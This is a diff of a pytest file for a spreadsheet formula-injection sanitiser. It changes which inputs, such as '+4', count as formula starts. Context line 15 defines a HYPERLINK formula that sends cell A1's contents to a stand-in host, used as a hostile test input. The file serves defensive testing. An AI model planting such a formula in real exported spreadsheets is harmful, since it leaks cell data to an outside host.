@@ -15,12 +15,12 @@ HOSTILE = '=HYPERLINK("http://example.invalid/?d="&A1,"x")'
 
 
 @pytest.mark.parametrize("text", [HOSTILE, "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd",
-                                  "-0.5 (-0.9, -0.1)", "=1"])
+                                  "-0.5 (-0.9, -0.1)", "=1", "+4", "+"])
 def test_formula_starts_are_prefixed_with_a_quote(text):
     assert neutralise(text) == "'" + text
 
 
-@pytest.mark.parametrize("text", ["-0.25", "-3", "+4", "-1e-3", "-.5", "12 (4.0)", "Tmab", "",
+@pytest.mark.parametrize("text", ["-0.25", "-3", "-1e-3", "-.5", "12 (4.0)", "Tmab", "",
                                   "-", "<5", "\u22120.3"])
 def test_numbers_and_plain_text_are_unchanged(text):
     assert neutralise(text) == text
